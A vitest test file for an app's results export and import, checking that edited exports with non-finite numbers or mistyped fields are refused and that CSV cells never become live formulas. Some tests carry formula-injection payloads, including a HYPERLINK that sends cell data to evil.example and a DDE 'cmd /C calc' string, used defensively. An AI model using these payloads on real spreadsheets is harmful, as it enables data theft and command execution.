/**
 * What an imported or edited export may not smuggle in: numbers that are not finite or out of
 * range (so every export stays importable), and fields of the wrong type (such as a one-element
 * array where an option id belongs). Each is refused with where it is. And whatever reaches the
 * CSV writer, no cell is written as a live spreadsheet formula.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv, unguard, type Cell } from '../../../src/engine/results/csv.ts';
import {
  exportCsv,
  exportJson,
  parseExport,
  type ExportedAttempt,
} from '../../../src/engine/results/export.ts';
import { playHeadless } from '../../../src/engine/play/headless.ts';
import { loadScenarioFile, shippedScenarioFiles } from '../session/fixtures.ts';

const scenario = loadScenarioFile(shippedScenarioFiles()[0]!);
const run = playHeadless(scenario, { seed: 4, mode: 'assessment', strategy: 'worst' });
const entry: ExportedAttempt = {
  attempt: run.attempt,
  report: run.report,
  comments: [],
  finishedAt: '2026-02-03T04:05:06.000Z',
};
/** An export edited by hand: `edit` changes the parsed bundle, the text is JSON again. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- a hand-edited file has any shape
function edited(edit: (bundle: any) => void, text?: (json: string) => string): string {
  const bundle = JSON.parse(exportJson([entry]));
  edit(bundle);
  const json = JSON.stringify(bundle);
  return text ? text(json) : json;
}
const errorsOf = (text: string) => {
  const result = parseExport(text);
  return result.ok ? [] : result.errors;
};

describe('import refuses numbers that would not survive another export', () => {
  it('refuses an overall of 1e999 (read as Infinity) with where it is', () => {
    const text = edited(
      (b) => (b.attempts[0].report.overall = 12345),
      (json) => json.replace('"overall":12345', '"overall":1e999'),
    );
    expect(errorsOf(text)).toContain('attempts[0].report.overall: must be a finite number');
  });

  it('refuses out-of-range scores and non-finite points and minutes', () => {
    const text = edited(
      (b) => {
        b.attempts[0].report.overall = 150;
        b.attempts[0].report.passPercent = -1;
        b.attempts[0].report.decisions[0].points = { safety: 7777 };
        b.attempts[0].attempt.events.push({ type: 'clock.advance', minutes: 6666 });
      },
      (json) => json.replace('7777', '-1e999').replace('6666', '1e999'),
    );
    const errors = errorsOf(text);
    expect(errors).toContain('attempts[0].report.overall: must be from 0 to 100');
    expect(errors).toContain('attempts[0].report.passPercent: must be from 0 to 100');
    expect(errors).toContain(
      'attempts[0].report.decisions[0].points: the value of "safety" must be a finite number',
    );
    expect(errors).toContainEqual(
      expect.stringMatching(
        /^attempts\[0\]\.attempt\.events\[\d+\]\.minutes: must be a finite number$/,
      ),
    );
  });

  it('still imports every real export', () => {
    expect(parseExport(exportJson([entry])).ok).toBe(true);
  });
});

describe('import refuses fields of the wrong type', () => {
  it('refuses one-element arrays in decision fields, with their location', () => {
    const text = edited((b) => {
      const d = b.attempts[0].report.decisions[0];
      d.optionId = ['=HYPERLINK("https://evil.example/?"&A1,"Open")'];
      d.stepId = ['@SUM(1+1)*cmd|" /C calc"!A0'];
      d.phase = ['+1'];
      d.minute = ['-2'];
      b.attempts[0].scenarioVersion = ['=1'];
      b.attempts[0].comments = [{ decisionIndex: 0, text: ['=1'], author: 'x', at: 'yesterday' }];
    });
    const errors = errorsOf(text);
    expect(errors).toEqual(
      expect.arrayContaining([
        'attempts[0].report.decisions[0].optionId: must be a string',
        'attempts[0].report.decisions[0].stepId: must be a string',
        'attempts[0].report.decisions[0].phase: must be a string',
        'attempts[0].report.decisions[0].minute: must be a finite number',
        'attempts[0].scenarioVersion: must be a string',
        'attempts[0].comments[0].text: must be a string',
        'attempts[0].comments[0].at: must be a date-time such as 2026-03-01T09:30:00.000Z',
      ]),
    );
  });
});

describe('CSV formula guard on the text actually written', () => {
  const formulas = ['=HYPERLINK("https://evil.example")', '@SUM(1+1)', '+1+1', '-1+2', '\t=1'];

  it('guards every cell whose text starts a formula, whatever its value type', () => {
    const cells: unknown[] = [...formulas, ...formulas.map((f) => [f]), { toString: () => '=1+1' }];
    const text = toCsv(
      ['x'],
      cells.map((c) => [c as Cell]),
    );
    const written = parseCsv(text)
      .slice(1)
      .map((r) => r[0]!);
    for (const cell of written) expect(cell.startsWith("'")).toBe(true);
    expect(written.map(unguard).slice(0, formulas.length)).toEqual(formulas);
  });

  it('leaves plain numbers, negative ones included, as numbers', () => {
    const written = parseCsv(toCsv(['x'], [[-3], [2.5], ['-4'], [1e-7]])).slice(1);
    expect(written.map((r) => r[0])).toEqual(['-3', '2.5', '-4', '1e-7']);
  });

  it('an export built from a forged bundle has no live formula in any cell', () => {
    const forged = structuredClone(entry);
    const d = forged.report.decisions[0]! as unknown as Record<string, unknown>;
    d.optionId = ['=HYPERLINK("https://evil.example")'];
    d.bestOptionId = ['@SUM(1)'];
    const rows = parseCsv(exportCsv([forged])).slice(1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});
